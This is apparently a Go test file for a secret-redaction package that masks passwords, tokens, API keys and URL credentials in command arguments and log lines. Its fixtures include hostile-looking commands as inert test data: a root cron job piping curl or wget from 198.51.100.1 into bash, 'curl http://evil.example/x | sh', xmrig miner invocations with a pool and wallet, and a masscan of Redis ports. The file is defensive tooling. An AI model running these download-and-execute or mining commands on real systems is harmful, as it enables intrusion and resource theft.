package secrets

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestArguments(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ in, want []string }{
		{nil, nil},
		{[]string{}, []string{}},
		{[]string{"db", "--password=open sesame"}, []string{"db", "--password=***"}},
		{[]string{"db", "--password", "sesame"}, []string{"db", "--password", "***"}},
		{[]string{"db", "--db-pass", "-sesame"}, []string{"db", "--db-pass", "***"}},
		{[]string{"db", "--password="}, []string{"db", "--password="}},
		{[]string{"db", "--password"}, []string{"db", "--password"}},
		{[]string{"db", "--password-file=/run/secret", "--password-file", "/run/secret"}, []string{"db", "--password-file=/run/secret", "--password-file", "/run/secret"}},
		{
			[]string{"/tmp/x", "-o", "stratum+tcp://pool.example:3333", "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "-p", "x", "--donate-level", "1"},
			[]string{"/tmp/x", "-o", "stratum+tcp://pool.example:3333", "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "-p", "***", "--donate-level", "1"},
		},
		{[]string{"x", "-o", "stratum+tcp://wallet.rig:x@pool.example:3333"}, []string{"x", "-o", "stratum+tcp://wallet.rig:***@pool.example:3333"}},
		{[]string{"x", "-u", "wallet:x", "--userpass=wallet:x", "--user", "wallet"}, []string{"x", "-u", "wallet:***", "--userpass=wallet:***", "--user", "wallet"}},
		{[]string{"docker", "run", "-u", "1000:1000", "-p", "80:8080", "nginx"}, []string{"docker", "run", "-u", "1000:1000", "-p", "80:8080", "nginx"}},
		{[]string{"curl", "-u", "me:sesame", "https://h/"}, []string{"curl", "-u", "me:***", "https://h/"}},
		{[]string{"curl", "-H", "Authorization: Bearer abc.def ghi"}, []string{"curl", "-H", "Authorization: Bearer ***"}},
		{[]string{"curl", "-H", "X-Api-Key: abc", "-H", "Cookie: a=b; c=d", "-H", "Accept: text/html"}, []string{"curl", "-H", "X-Api-Key: ***", "-H", "Cookie: ***", "-H", "Accept: text/html"}},
		{[]string{"curl", "https://me:sesame@host:8443/a?token=abc&b=c"}, []string{"curl", "https://me:***@host:8443/a?token=***&b=c"}},
		{[]string{"sudo", "-E", "mysql", "-h", "db", "-psesame"}, []string{"sudo", "-E", "mysql", "-h", "db", "-p***"}},
		{[]string{"find", "/tmp", "-print"}, []string{"find", "/tmp", "-print"}},
		{[]string{"mkdir", "-p", "/tmp/.x"}, []string{"mkdir", "-p", "/tmp/.x"}},
		{[]string{"ssh", "-p", "2222", "h"}, []string{"ssh", "-p", "2222", "h"}},
		{[]string{"redis-cli", "-a", "sesame", "-p", "6379"}, []string{"redis-cli", "-a", "***", "-p", "6379"}},
		{[]string{"sh", "-c", "PGPASSWORD=sesame psql -h db; curl http://198.51.100.1/x | sh"}, []string{"sh", "-c", "PGPASSWORD=*** psql -h db; curl http://198.51.100.1/x | sh"}},
		{[]string{"java", "-Djavax.net.ssl.keyStorePassword=sesame", "-Djavax.net.ssl.keyStore=/etc/k.jks", "-Dspring.datasource.password=a,b c"}, []string{"java", "-Djavax.net.ssl.keyStorePassword=***", "-Djavax.net.ssl.keyStore=/etc/k.jks", "-Dspring.datasource.password=***"}},
		{[]string{"env", "AWS_SECRET_ACCESS_KEY=abc/def+ghi", "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE", "x"}, []string{"env", "AWS_SECRET_ACCESS_KEY=***", "AWS_ACCESS_KEY_ID=AKIA***", "x"}},
		{[]string{"x", "--token", "abc", "--key=abc", "--key=/etc/ssl/k.pem", "--apiKey=abc"}, []string{"x", "--token", "***", "--key=***", "--key=/etc/ssl/k.pem", "--apiKey=***"}},
		{[]string{"x", "--passthrough", "yes", "--author=me", "--bypass=1", "--tokenizer", "bpe", "--auth-method", "ldap"}, []string{"x", "--passthrough", "yes", "--author=me", "--bypass=1", "--tokenizer", "bpe", "--auth-method", "ldap"}},
	} {
		before := slices.Clone(test.in)
		if got := Arguments(test.in); !slices.Equal(got, test.want) {
			t.Errorf("Arguments(%q)\n got %q\nwant %q", test.in, got, test.want)
		}
		if !slices.Equal(before, test.in) {
			t.Errorf("%q was changed to %q", before, test.in)
		}
	}
}

func TestLine(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "",
		"* * * * * root (curl -fsSL http://198.51.100.1/ini.sh || wget -q -O- http://198.51.100.1/ini.sh) | bash": "* * * * * root (curl -fsSL http://198.51.100.1/ini.sh || wget -q -O- http://198.51.100.1/ini.sh) | bash",
		"mysqldump --password=sesame db | gzip":                                 "mysqldump --password=*** db | gzip",
		"mysqldump --password='open sesame' db | gzip":                          "mysqldump --password='***' db | gzip",
		`mysqldump --password="open \" sesame" db`:                              `mysqldump --password="***" db`,
		"mysqldump --password 'open sesame' db":                                 "mysqldump --password '***' db",
		"mysqldump -u root -psesame db":                                         "mysqldump -u root -p*** db",
		"cd /x && mysql -psesame db":                                            "cd /x && mysql -p*** db",
		"sshpass -p sesame ssh -p 22 h":                                         "sshpass -p *** ssh -p *** h",
		"PASSWORD=a'b c'd\\ e run":                                              "PASSWORD=*** run",
		"A=1 DB_PASS=sesame ./run":                                              "A=1 DB_PASS=*** ./run",
		"export MYSQL_PWD=sesame":                                               "export MYSQL_PWD=***",
		"PWD=/root OLDPWD=/tmp ./run":                                           "PWD=/root OLDPWD=/tmp ./run",
		"curl -H 'Authorization: Basic dXNlcjpwYXNz' http://h/":                 "curl -H 'Authorization: Basic ***' http://h/",
		`curl -H "Authorization: Bearer abc" http://h/ | sh`:                    `curl -H "Authorization: Bearer ***" http://h/ | sh`,
		`curl -H "X-Vault-Token: abc" http://h/ | sh`:                           `curl -H "X-Vault-Token: ***" http://h/ | sh`,
		`curl --header Authorization:abc http://h/`:                             `curl --header Authorization:*** http://h/`,
		`sh -c "curl http://h/?token=abc | sh"`:                                 `sh -c "curl http://h/?token=*** | sh"`,
		`sh -c "TOKEN=abc; curl http://evil.example/x | sh"`:                    `sh -c "TOKEN=***; curl http://evil.example/x | sh"`,
		`{"url": "pool.example:3333", "user": "48edf", "pass": "x", "tls": 1}`:  `{"url": "pool.example:3333", "user": "48edf", "pass": "***", "tls": 1}`,
		`{\"password\":\"sesame\",\"a\":1}`:                                     `{\"password\":\"***\",\"a\":1}`,
		"password: sesame":                                                      "password: ***",
		"password = sesame":                                                     "password = ***",
		"git clone https://oauth2:abc@git.example/x.git":                        "git clone https://oauth2:***@git.example/x.git",
		"git clone https://ghp_0123456789abcdefghij0123456789abcdef@github.com": "git clone https://ghp_***@github.com",
		"redis://:sesame@h:6379/0":                                              "redis://:***@h:6379/0",
		"postgres://me:p/word@h:5432/db":                                        "postgres://me:***@h:5432/db",
		"http://h:8080/p@q":                                                     "http://h:8080/p@q",
		"http://h/p@q":                                                          "http://h/p@q",
		"stratum+ssl://48edfHu@pool.example:1":                                  "stratum+ssl://48edfHu@pool.example:1",
		"./xmrig -o pool:1 -u 48edfHu -p x -k":                                  "./xmrig -o pool:1 -u 48edfHu -p *** -k",
		"mkdir -p /tmp/.x && cp -p a /tmp/.x/b":                                 "mkdir -p /tmp/.x && cp -p a /tmp/.x/b",
		"masscan -p 6379 10.0.0.0/8":                                            "masscan -p 6379 10.0.0.0/8",
		"iptables -A INPUT -p tcp":                                              "iptables -A INPUT -p tcp",
		"curl -d token=AKIAIOSFODNN7EXAMPLE h":                                  "curl -d token=*** h",
		"echo AKIAIOSFODNN7EXAMPLE":                                             "echo AKIA***",
		"echo sk-0123456789abcdefghijklmn":                                      "echo sk-0***",
		"x --token=$TOKEN --password=${DB_PASSWORD}":                            "x --token=$TOKEN --password=${DB_PASSWORD}",
		"ExecStart=/usr/bin/x --secret abc":                                     "ExecStart=/usr/bin/x --secret ***",
		"Environment=DB_PASSWORD=abc":                                           "Environment=DB_PASSWORD=***",
		`Environment="DB_PASSWORD=abc def" A=1`:                                 `Environment="DB_PASSWORD=***" A=1`,
		"Its arguments are x --password abc.":                                   "Its arguments are x --password ***",
		"It's a pass: /tmp/x":                                                   "It's a pass: ***",
		"Flink's log: a jar was run through REST":                               "Flink's log: a jar was run through REST",
		"std::token::x ==token== a":                                             "std::token::x ==token== a",
		"password":                                                              "password",
		"--password ":                                                           "--password ",
		"password='":                                                            "password='",
		"password=\\":                                                           "password=***",
		"https://":                                                              "https://",
		"https://a:@b":                                                          "https://a:@b",
	} {
		if got := Line(in); got != want {
			t.Errorf("Line(%q)\n got %q\nwant %q", in, got, want)
		}
	}
}

// FuzzLine: whatever it is given, it ends, keeps what is UTF-8 so, and grows by little.
func FuzzLine(f *testing.F) {
	for _, seed := range []string{"mysqldump --password='a b' db", `curl -H "Authorization: Basic x" http://a:b@h/?token=c`, `{\"password\":\"x\"}`, "-p", "TOKEN=\\", "\xff=\xfe"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		got := Line(line)
		if len(got) > len(line)*2+len(Mask) {
			t.Errorf("%d bytes became %d", len(line), len(got))
		}
		if utf8.ValidString(line) && !utf8.ValidString(got) {
			t.Errorf("Line(%q) is no UTF-8: %q", line, got)
		}
		words := strings.Fields(line)
		if masked := Arguments(words); len(masked) != len(words) {
			t.Errorf("%d arguments became %d", len(words), len(masked))
		}
	})
}

func BenchmarkLine(b *testing.B) {
	line := strings.Repeat("curl -fsSL http://198.51.100.1/ini.sh?token=abc --password x | bash; ", 60)
	b.SetBytes(int64(len(line)))
	for b.Loop() {
		Line(line)
	}
}
